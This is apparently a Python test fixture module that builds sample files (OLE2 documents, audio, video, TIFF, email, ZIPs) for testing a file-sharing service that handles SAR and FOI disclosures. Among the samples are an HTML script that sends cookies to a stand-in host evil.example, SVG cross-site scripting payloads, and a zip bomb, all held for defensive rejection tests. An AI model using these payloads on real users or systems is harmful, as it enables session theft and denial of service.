"""Small real files of the kinds SAR and FOI responses hold, made here byte by byte: OLE2 (DOC, XLS, MSG),
MP3, MP4, TIFF, email, ZIPs (plain, password-protected, a bomb), and the active content Secure Share refuses."""
from __future__ import annotations

import io
import struct
import zipfile

from tests.disclosure_samples import xlsx_file  # noqa: F401 - one more kind for the share tests
from tests.share_helpers import pdf

SECTOR = 512
FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _directory_entry(name: str, kind: int, right: int = NO_STREAM, child: int = NO_STREAM, start: int = END,
                     size: int = 0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", NO_STREAM, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
            + struct.pack("<IQ", start, size))


def ole2(streams: dict[str, bytes]) -> bytes:
    """A Compound File (v3, 512-byte sectors) holding these streams, each padded to 4 KiB so none is in the
    mini stream: the container of DOC, XLS and MSG files."""
    names = list(streams)
    padded = [streams[name].ljust(4096, b"\0")[:max(4096, len(streams[name]))] for name in names]
    sectors_each = [len(data) // SECTOR for data in padded]
    fat = [FAT_SECTOR, END]  # sector 0 is the FAT, sector 1 the directory
    starts = []
    for count in sectors_each:
        first = len(fat)
        starts.append(first)
        fat.extend(range(first + 1, first + count))
        fat.append(END)
    assert len(fat) <= SECTOR // 4, "one FAT sector is enough for these samples"
    fat += [FREE] * (SECTOR // 4 - len(fat))
    entries = [_directory_entry("Root Entry", 5, child=1 if names else NO_STREAM)]
    for index, name in enumerate(names):
        right = index + 2 if index + 1 < len(names) else NO_STREAM
        entries.append(_directory_entry(name, 2, right=right, start=starts[index], size=len(padded[index])))
    assert len(entries) <= 4, "one directory sector holds four entries"
    entries += [_directory_entry("", 0)] * (4 - len(entries))
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    return header + struct.pack(f"<{SECTOR // 4}I", *fat) + b"".join(entries) + b"".join(padded)


def doc_file() -> bytes:
    return ole2({"WordDocument": b"\xec\xa5" + b"Letter text", "1Table": b"table"})


def xls_file() -> bytes:
    return ole2({"Workbook": b"\x09\x08" + b"cells"})


def msg_file() -> bytes:
    return ole2({"__properties_version1.0": b"\0" * 32, "__substg1.0_0037001F": "Your request".encode("utf-16-le")})


def encrypted_docx_file() -> bytes:
    """How Word saves a DOCX with a password: an OLE2 file holding the encrypted package."""
    return ole2({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x93" * 64})


def mp3_file() -> bytes:
    frame = b"\xff\xfb\x90\x64" + b"\0" * 413  # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + frame * 4


def mp3_without_tag() -> bytes:
    return (b"\xff\xfb\x90\x64" + b"\0" * 413) * 4


def mp4_file() -> bytes:
    brands = b"isom" + b"\0\0\x02\0" + b"isom" + b"iso2" + b"avc1" + b"mp41"
    ftyp = struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands
    return ftyp + struct.pack(">I", 16) + b"mdat" + b"\0" * 8


def tiff_file(big_endian: bool = False) -> bytes:
    if big_endian:
        return b"MM\x00\x2a" + struct.pack(">I", 8) + struct.pack(">H", 0) + b"\0" * 4
    return b"II\x2a\x00" + struct.pack("<I", 8) + struct.pack("<H", 0) + b"\0" * 4


EML = (b"Return-Path: <foi@example.gov.uk>\r\nReceived: from mail.example.gov.uk by mx.example.com\r\n"
       b"From: FOI Team <foi@example.gov.uk>\r\nTo: Jane Smith <jane@example.com>\r\n"
       b"Subject: Your request FOI-2026-0042\r\nDate: Mon, 1 Jun 2026 09:00:00 +0100\r\n"
       b"Message-ID: <1@example.gov.uk>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
       b"Dear Jane,\r\n\r\nPlease find our response attached.\r\n")
CSV = b"date,caller,minutes\r\n2026-05-01,Jane Smith,12\r\n2026-05-02,John Smith,3\r\n"
RTF = rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Times;}} Dear Jane, here is the letter.}"
HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
       b"<script>alert(1)</script></svg>")


def zip_of(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted_zip() -> bytes:
    """A ZIP whose entry says it is encrypted (traditional PKWARE encryption): nothing can scan inside it."""
    data = bytearray(zip_of({"letter.pdf": pdf(2000)}, zipfile.ZIP_STORED))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + flag_at] |= 0x01
    return bytes(data)


def zip_bomb() -> bytes:
    """20 MB of zeros that deflate to about 20 KB: a ratio of about 1,000 to 1."""
    return zip_of({"zeros.txt": b"\0" * (20 * 1024 * 1024)})
